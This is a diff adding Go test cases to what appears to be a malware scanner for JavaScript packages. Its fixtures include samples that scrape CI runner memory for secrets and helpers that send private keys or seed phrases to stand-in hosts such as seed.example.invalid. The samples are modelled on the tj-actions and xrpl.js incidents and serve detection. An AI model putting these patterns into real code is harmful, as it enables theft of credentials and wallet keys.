@@ -123,6 +123,10 @@ func TestFileAccess(t *testing.T) {
 		{"keychain_own_item", map[string]string{"k.js": `const { execFile } = require("child_process"); exports.get = (svc, acct, cb) => execFile("security", ["find-generic-password", "-w", "-s", svc, "-a", acct], cb)`}, finding.SeverityLow},
 		// a CI runner's memory searched for its secrets (tj-actions)
 		{"runner_memory_scan", map[string]string{"d.js": "const fs = require(\"fs\"); for (const pid of fs.readdirSync(\"/proc\")) { if (fs.readFileSync(`/proc/${pid}/cmdline`, \"utf8\").includes(\"Runner.Worker\")) { const fd = fs.openSync(`/proc/${pid}/mem`, \"r\"); } }"}, finding.SeverityCritical},
+		// the memory read by a helper the file starts, its output searched
+		{"runner_memory_helper", map[string]string{"d.js": "const { spawnSync } = require(\"child_process\"); const pid = find(\"Runner.Worker\"); const out = spawnSync(\"sudo\", [\"-n\", \"python3\", __dirname + \"/dump.py\", pid]).stdout; const re = /\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}/g; print(out.match(re))"}, finding.SeverityCritical},
+		// a CI tool naming the worker process, with nothing searched
+		{"runner_worker_named", map[string]string{"d.js": "const { execSync } = require(\"child_process\"); if (execSync(\"ps ax\").toString().includes(\"Runner.Worker\")) console.log(\"in a job\")"}, finding.SeverityHigh},
 		// a process's own memory statistics are not its memory
 		{"proc_status", map[string]string{"d.js": `const s = require("fs").readFileSync("/proc/self/status", "utf8"); module.exports = /VmRSS:\s+(\d+)/.exec(s)[1]`}, finding.SeverityNone},
 		// one store's several files are one store: a Kubernetes client
@@ -189,6 +193,15 @@ func TestSecretExfil(t *testing.T) {
 		{"helper_sender", map[string]string{"index.js": `class L { static q(k) { fetch("https://collect.example.invalid/q", {method:"POST", headers:{"x-id": k}}) } }
 function load(secretKey) { L.q(secretKey) }`}, finding.SeverityCritical},
 		{"direct", map[string]string{"index.js": `axios.post("https://x.invalid", { mnemonic })`}, finding.SeverityCritical},
+		// the sender in another file of the package (xrpl.js 4.2.1)
+		{"imported_sender", map[string]string{"package.json": rt.Pkg(`"main":"src/wallet.js"`),
+			"src/wallet.js":         "const { checkSeed } = require('./utils/validate');\nclass W { constructor(pub, privateKey) { this.privateKey = privateKey; checkSeed(this.privateKey); } }\nmodule.exports = W;",
+			"src/utils/validate.js": "function checkSeed(v) { fetch('https://seed.example.invalid/c', { method: 'POST', headers: { 'ad-referral': v } }); return true }\nmodule.exports = { checkSeed };"}, finding.SeverityCritical},
+		// the same helper handed a public value, or not loaded by the caller
+		{"imported_sender_public", map[string]string{"package.json": rt.Pkg(`"main":"src/wallet.js"`),
+			"src/wallet.js":         "const { checkSeed } = require('./utils/validate');\ncheckSeed(address); recheckSeed(privateKey);",
+			"src/other.js":          "checkSeed(privateKey)",
+			"src/utils/validate.js": "function checkSeed(v) { fetch('https://seed.example.invalid/c', { method: 'POST', headers: { 'x': v } }) }\nmodule.exports = { checkSeed };"}, finding.SeverityNone},
 		// a wallet helper relaying what it is given through a sender whose
 		// host is kept in an array
 		{"wallet_phrase_relay", map[string]string{"index.js": "const { Wallet } = require(\"ethers\"); const h = [\"relay.example.invalid\"]; function _r(t) { require(\"https\").get(`https://${h[0]}/m?text=${encodeURIComponent(t)}`) }\nfunction fromMnemonic(phrase) { _r(\"mn:\" + phrase); return Wallet.fromPhrase(phrase) }"}, finding.SeverityCritical},
